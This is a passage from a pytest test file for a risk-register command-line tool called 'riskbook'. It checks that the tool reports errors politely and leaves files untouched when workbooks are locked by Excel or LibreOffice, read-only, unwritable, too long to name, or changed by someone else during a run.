        "check the name",
    ),
    "export into a file": (
        ("export", "Register.xlsx", "Weighted.xlsx", "--to", "csv"),
        "Weighted.xlsx is a file, not a folder.",
        "name another folder",
    ),
}


def test_an_export_makes_its_folder(place: Path) -> None:
    assert run("export", "Register.xlsx", "new/exports", "--to", "json").exit_code == 0
    assert (place / "new" / "exports" / "Register.json").is_file()


@pytest.mark.parametrize("case", ASKED)
def test_what_cannot_be_done(case: str, place: Path) -> None:
    args, sentence, fix = ASKED[case]
    (place / "broken.json").write_text('{ "format": 1,\n}', encoding="utf-8")
    (place / "folder.xlsx").mkdir()
    before = everything(place)
    assert_polite(run(*args), sentence, fix)
    assert everything(place) == before


def test_every_mistake_in_a_register_is_listed(place: Path) -> None:
    document = sample(DACORUM) | {"format": "riskbook-register/2", "riscs": []}
    document["risks"][2]["title"] = None
    (place / "own.json").write_text(json.dumps(document), encoding="utf-8")
    found = run("new", "operational-4x4", "New.xlsx", "--data", "own.json")
    assert found.exit_code == 2
    what, _, fix = found.stderr.partition("\n  To fix: ")
    first, *mistakes = what.splitlines()
    assert first == "riskbook: The register 'own.json' has 3 mistakes:"
    assert len(mistakes) == 3
    assert "did you mean 'risks'?" in what
    assert fix == "Correct it in the file and try again.\n"
    assert not (place / "New.xlsx").exists()


# --- who else has the file, and the disk -------------------------------------------------


def marked(place: Path, program: str) -> None:
    """The mark that a program leaves beside a workbook that it has open."""
    if program == "Excel":
        name = "Sandra Example"
        wide = name.encode("utf-16-le").ljust(108, b" ")
        data = bytes([len(name)]) + name.encode().ljust(54, b" ") + bytes([len(name), 0]) + wide
        (place / "~$Register.xlsx").write_bytes(data)
    else:
        line = "Sandra Example,sexample,PC-17,31.10.2021 09:00,file:///home/sexample;"
        (place / ".~lock.Register.xlsx#").write_text(line, encoding="utf-8")


@pytest.mark.parametrize("program", ["Excel", "LibreOffice"])
def test_a_workbook_that_is_open_elsewhere_is_checked_and_not_refreshed(
    program: str, place: Path
) -> None:
    marked(place, program)
    before = everything(place)
    found = run("refresh", "Register.xlsx", "--as-at", "2030-01-01")
    assert_polite(found, f"Register.xlsx is open in {program} by Sandra Example.", "close it there")
    assert run("check", "Register.xlsx").exit_code == 0
    assert run("new", "council-5x5", "Register.xlsx", "--overwrite").exit_code == 2
    assert everything(place) == before


@pytest.mark.parametrize("form", ["csv", "accessible"])
def test_of_the_files_of_an_export_none_is_replaced_where_one_is_open_elsewhere(
    form: str, place: Path
) -> None:
    assert run("export", "Register.xlsx", "--to", form).exit_code in (0, 1)
    last = "controls.csv" if form == "csv" else "accessible checklist.csv"
    (place / f".~lock.Register {last}#").write_text("Sandra Example,s,PC-17,,;", encoding="utf-8")
    assert run("refresh", "Register.xlsx", "--as-at", "2030-01-01").exit_code in (0, 1)
    before = everything(place)
    found = run("export", "Register.xlsx", "--to", form, "--as-at", "2030-01-01")
    what = f"Register {last} is open in LibreOffice by Sandra Example."
    assert_polite(found, what, "close it there")
    assert everything(place) == before


LONG = "x" * 300


@pytest.mark.parametrize(
    "args",
    [
        ("export", "Register.xlsx", LONG, "--to", "csv"),
        ("export", "Register.xlsx", LONG, "--to", "accessible"),
        ("demo", LONG),
        ("snapshot", "Register.xlsx", LONG),
        ("snapshot", LONG, "--verify"),
        ("build-templates", "--out", LONG),
        ("build-templates", "--out", LONG, "--check"),
        ("check", LONG),
    ],
)
def test_a_folder_that_no_system_can_have_is_said(args: tuple[str, ...], place: Path) -> None:
    before = everything(place)
    found = run(*args)
    assert found.exit_code == 2
    assert "too long." in found.stderr
    assert "/" not in found.stderr
    assert everything(place) == before


@pytest.mark.parametrize(
    "args",
    [
        ("report", "Register.xlsx"),
        ("report", "Register.xlsx", "--checklist"),
        ("export", "Register.xlsx", "--to", "accessible"),
    ],
)
def test_what_is_written_and_cannot_be_read_again_is_said(
    args: tuple[str, ...], place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As where a scanner looks at a new file, or the drive goes away."""
    real = Path.read_bytes

    def read_bytes(path: Path) -> bytes:
        if path.name in ("Register report.pdf", "Register accessible.xlsx"):
            raise PermissionError(errno.EACCES, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(Path, "read_bytes", read_bytes)
    found = run(*args)
    assert found.exit_code == 2
    said = "was written, but cannot be read again: it may not be opened by you now.\n  To fix: "
    assert said in found.stderr


def test_a_read_only_workbook_is_checked_and_not_refreshed(place: Path) -> None:
    (place / "Register.xlsx").chmod(0o444)
    before = everything(place)
    found = run("refresh", "Register.xlsx", "--as-at", "2030-01-01")
    assert_polite(found, "Register.xlsx is read-only.", "clear Read-only")
    assert run("check", "Register.xlsx").exit_code == 0
    assert everything(place) == before


@contextmanager
def disk_that_says(number: int, monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    def fail(*_: object) -> None:
        raise OSError(number, os.strerror(number))

    with monkeypatch.context() as patched:
        patched.setattr("riskbook.edge.disk.whole.write_all", fail)
        yield


@pytest.mark.parametrize(
    ("number", "sentence", "fix"),
    [
        (errno.ENOSPC, "there is no room left on the disk", "free some space"),
        (errno.EACCES, "the file or its folder may not be written now", "close the file"),
        (errno.EROFS, "the file or its folder may not be written now", "close the file"),
        (
            errno.EIO,
            "the drive reports a fault while reading or writing",
            "copy the file to another drive",
        ),
    ],
)
@pytest.mark.parametrize(
    ("name", "args"),
    [
        ("Register.xlsx", ("refresh", "Register.xlsx", "--as-at", "2030-01-01")),
        ("New.xlsx", ("new", "council-5x5", "New.xlsx")),
        ("Register.json", ("export", "Register.xlsx", "--to", "json")),
    ],
)
def test_a_disk_that_cannot_be_written(
    name: str,
    args: tuple[str, ...],
    number: int,
    sentence: str,
    fix: str,
    place: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    before = everything(place)
    with disk_that_says(number, monkeypatch):
        found = run(*args)
    assert_polite(found, f"{name} could not be saved: {sentence}.", fix)
    assert everything(place) == before


def test_a_workbook_changed_by_somebody_else_meanwhile_is_theirs(
    place: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    theirs = (place / "Weighted.xlsx").read_bytes()
    refuse = busy.refuse_if_busy

    def meanwhile(path: Path) -> None:
        (place / "Register.xlsx").write_bytes(theirs)
        refuse(path)

    monkeypatch.setattr(busy, "refuse_if_busy", meanwhile)
    found = run("refresh", "Register.xlsx", "--as-at", "2030-01-01")
    sentence = "Register.xlsx was changed by somebody else since it was read."
    assert_polite(found, sentence, "run it again")
    assert (place / "Register.xlsx").read_bytes() == theirs


# --- several files -----------------------------------------------------------------------


@pytest.mark.parametrize("command", ["check", "refresh"])
def test_a_bad_file_does_not_stop_the_others(command: str, place: Path) -> None:
    document = sample(DACORUM)
    document["risks"][0]["gross_impact"] = 9
    (place / "Wrong.xlsx").write_bytes(workbook_of(document))
    found = run(command, "Register.xlsx", "none.xlsx", "Wrong.xlsx", "Weighted.xlsx")
    assert found.exit_code == 2
    assert "riskbook: There is no file none.xlsx." in found.stderr
    for name in ("Register.xlsx", "Wrong.xlsx", "Weighted.xlsx"):
        assert f"{name}: " in found.output
    assert run(command, "Register.xlsx", "Wrong.xlsx", "Weighted.xlsx").exit_code == 1
    assert run(command, "Register.xlsx", "Weighted.xlsx").exit_code == 0


def test_json_stays_json_when_a_file_is_bad(place: Path) -> None:
    found = run("check", "none.xlsx", "Register.xlsx", "--json")
    assert found.exit_code == 2
    assert len(json.loads(found.stdout)) == 6
    found = run("refresh", "Register.xlsx", "none.xlsx", "--json")
    assert found.exit_code == 2
    assert [told["file"] for told in json.loads(found.stdout)] == ["Register.xlsx"]


@pytest.mark.parametrize(
    "args", [("--help",), ("check", "-h"), ("refresh", "-h"), ("new", "-h"), ("profile", "-h")]
)
def test_help_is_help(args: tuple[str, ...]) -> None:
    found = run(*args)
    assert found.exit_code == 0
    assert found.stdout.startswith("Usage: ")
